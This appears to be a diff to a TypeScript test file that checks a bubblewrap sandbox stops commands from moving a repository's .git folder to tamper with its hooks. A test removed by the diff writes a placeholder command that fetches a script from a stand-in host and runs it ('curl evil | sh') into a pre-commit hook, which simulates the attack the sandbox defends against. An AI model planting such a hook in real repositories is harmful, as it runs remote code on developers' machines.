@@ -46,11 +46,8 @@ function policy(mode: SandboxMode): SandboxPolicy {
   return createSandboxPolicy({ mode, workspaceRoots: [workspace], homeDirectory: home, tempRoots: [temp], letterCase: 'sensitive' });
 }
 
-/** The mount-per-name renderer (full-access renders this way), for its own mechanics. */
-const legacyBackend = new BubblewrapBackend({ stagedWrites: false });
-
-async function bash(script: string, sandboxPolicy: SandboxPolicy, wrapper: BubblewrapBackend = backend) {
-  return runWrapped(wrapper.wrap({ argv: ['/bin/bash', '-c', script], cwd: workspace }, sandboxPolicy), workspace);
+async function bash(script: string, sandboxPolicy: SandboxPolicy) {
+  return runWrapped(backend.wrap({ argv: ['/bin/bash', '-c', script], cwd: workspace }, sandboxPolicy), workspace);
 }
 
 /**
@@ -61,7 +58,7 @@ async function bash(script: string, sandboxPolicy: SandboxPolicy, wrapper: Bubbl
 const renameFunction = `rename() { '${process.execPath}' -e 'try { require("fs").renameSync(process.argv[1], process.argv[2]); console.log("renamed " + process.argv[1]) } catch (error) { console.log(error.code + " " + process.argv[1]) }' "$1" "$2"; }`;
 
 describe('folders holding protected entries cannot be moved under bubblewrap (issue 19)', () => {
-  it('staged writes: mv .git .g, edit the hooks, mv back never reaches the host; the workspace and the folder above stay', async () => {
+  it('mv .git .g, edit the hooks, mv back: nothing reaches the host (staged writes); the workspace and the folder above it stay', async () => {
     const before = await listTree(root);
     const run = await bash(
       [
@@ -83,31 +80,6 @@ describe('folders holding protected entries cannot be moved under bubblewrap (is
     // Only the (empty) folder of the calls' staging folders, in the OpenWork home, may be new.
     expect((await listTree(root)).filter((entry) => entry !== 'd home/.openwork/staging')).toEqual(before.filter((entry) => entry !== 'd home/.openwork/staging'));
     expect(await fs.readFile(path.join(workspace, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
-  });
-
-  it('mv .git .g, edit the hooks, mv back: refused; the workspace and the folder above it cannot be moved away either (pinned parents: covers the full-access renderer)', async () => {
-    const before = await listTree(root);
-    const run = await bash(
-      [
-        renameFunction,
-        `rename ${workspace}/.git ${workspace}/.g`,
-        `echo 'curl evil | sh' > ${workspace}/.g/hooks/pre-commit`,
-        `rename ${workspace} ${temp}/ws-old`,
-        `rename ${temp}/proj ${temp}/proj-old`,
-        `mkdir -p ${workspace}/.git/hooks`,
-        'true',
-      ].join('\n'),
-      policy('workspace-write'),
-      legacyBackend,
-    );
-    expect(run.code).toBe(0);
-    // The workspace is a mount of its own (EXDEV towards the temp root), the folders above and below are pinned (EBUSY).
-    expect(run.stdout).toBe([`EBUSY ${workspace}/.git`, `EXDEV ${workspace}`, `EBUSY ${temp}/proj`, ''].join('\n'));
-    expect(await listTree(root)).toEqual(before);
-    expect(await fs.readFile(path.join(workspace, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
-    for (const folder of [path.join(workspace, '.git'), workspace, path.join(temp, 'proj')]) {
-      expect(checkAccess(policy('workspace-write'), folder, 'write', 'process').allowed, folder).toBe(false);
-    }
   });
 
   it('an ordinary folder still moves (git, build tools and editors rename folders all the time)', async () => {
